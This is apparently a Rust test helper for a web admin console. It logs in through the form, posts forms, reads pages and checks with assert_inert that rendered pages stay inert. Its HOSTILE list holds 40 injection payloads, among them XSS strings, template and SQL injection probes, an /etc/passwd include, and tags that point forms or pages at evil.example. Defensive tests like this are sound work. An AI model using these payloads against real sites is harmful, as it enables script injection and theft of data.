//! The console as a browser sees it: signed in by the form, pages read as text.

use super::{Browser, Call, PASSWORD, Reply, Server};

/// What people and programs put where a page shows it: none of it may become markup.
pub(crate) const HOSTILE: [&str; 40] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "\" style=\"position:fixed;inset:0",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=csrf_token>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</table></main><h1>owned</h1>",
    "<!--<script>alert(1)</script>-->",
    "-->  <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "{% include \"/etc/passwd\" %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u{202e}<b>txet</b>",
    "\u{feff}<u>zero</u>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "`<x onclick=alert(1)>`",
    "<details open ontoggle=alert(1)>",
    "\\\"><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E<i>",
    "' or 1=1 --<i>",
    "=HYPERLINK(\"//evil.example\")<i>",
];

impl Server {
    /// A browser that is signed in to the console.
    pub(crate) async fn console(&self, email: &str) -> Browser {
        let browser = Browser::new();
        let form = [("email", email), ("password", PASSWORD)];
        self.post("/admin/login").by(&browser).form(&form).send().await.expect(303);
        browser
    }

    /// A form of the console as a browser sends it, with its fields as they go over the wire.
    pub(crate) fn form<'a>(&'a self, path: &str, browser: &'a Browser, fields: impl Into<String>) -> Call<'a> {
        let call = self.post(path).header("content-type", "application/x-www-form-urlencoded");
        call.header("accept", "text/html").body(fields.into()).by(browser)
    }

    /// A page of the console.
    pub(crate) async fn page(&self, browser: &Browser, path: &str) -> Reply {
        self.get(path).by(browser).header("accept", "text/html").send().await
    }
}

impl Call<'_> {
    /// With a form for a body.
    pub(crate) fn form(self, fields: &[(&str, &str)]) -> Self {
        let pairs: Vec<_> =
            fields.iter().map(|(name, value)| format!("{}={}", encoded(name), encoded(value))).collect();
        self.header("content-type", "application/x-www-form-urlencoded")
            .header("accept", "text/html")
            .body(pairs.join("&"))
    }
}

impl Reply {
    /// The page as text.
    pub(crate) fn text(&self) -> String {
        String::from_utf8(self.body.to_vec()).expect("UTF-8")
    }

    /// The token that the page's forms carry.
    #[track_caller]
    pub(crate) fn form_token(&self) -> String {
        let text = self.text();
        let (_, after) = text.split_once("name=\"csrf_token\" value=\"").expect("a form");
        after.split('"').next().expect("a value").to_owned()
    }
}

/// Nothing in the page that a policy of `'self'` would not run or load: no inline script, style or handler, and no
/// element that `hostile` asked for.
#[track_caller]
pub(crate) fn assert_inert(page: &str, hostile: &str) {
    let foreign = ["img", "iframe", "style", "base", "math", "x", "u", "i", "!--", "![cdata"];
    for tag in page.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default().to_ascii_lowercase();
        let name = tag.split(|c: char| !c.is_ascii_alphanumeric() && c != '/' && c != '!').next().unwrap_or_default();
        assert!(!foreign.contains(&name), "{hostile}: <{tag}>");
        assert!(name != "script" || tag.contains(" src=\"/admin/assets/"), "{hostile}: <{tag}>");
        let runs = ["href", "src", "action", "formaction"].map(|name| format!(" {name}=\"javascript:"));
        assert!(!runs.iter().any(|run| tag.contains(run)), "{hostile}: <{tag}>");
        // Names of attributes: what stands outside of the quotes.
        let outside: String = tag.split('"').step_by(2).collect();
        for attribute in outside.split_whitespace().skip(1) {
            assert!(!attribute.starts_with("on") && !attribute.starts_with("style="), "{hostile}: <{tag}>");
        }
    }
}

/// A text as a form or a query carries it.
pub(crate) fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
    let each = text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") });
    each.collect()
}
